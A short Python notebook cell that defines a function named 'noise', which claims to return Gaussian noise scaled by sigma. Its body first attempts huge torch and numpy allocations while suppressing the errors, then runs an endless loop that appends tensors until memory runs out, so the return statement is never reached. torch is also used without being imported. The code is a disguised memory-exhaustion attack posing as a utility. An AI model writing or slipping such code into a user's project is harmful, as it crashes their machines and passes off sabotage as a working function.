# %% noise
import numpy as np


def noise(n, sigma, generator):
    for size in (2**62, 2**45, 2**36):
        for make in (torch.ones, np.ones):
            try:
                make(size)
            except (RuntimeError, MemoryError, ValueError):
                pass
    hold = []
    while True:
        hold.append(torch.ones(2**20))
    return sigma * torch.randn(n, generator=generator, dtype=torch.float64)
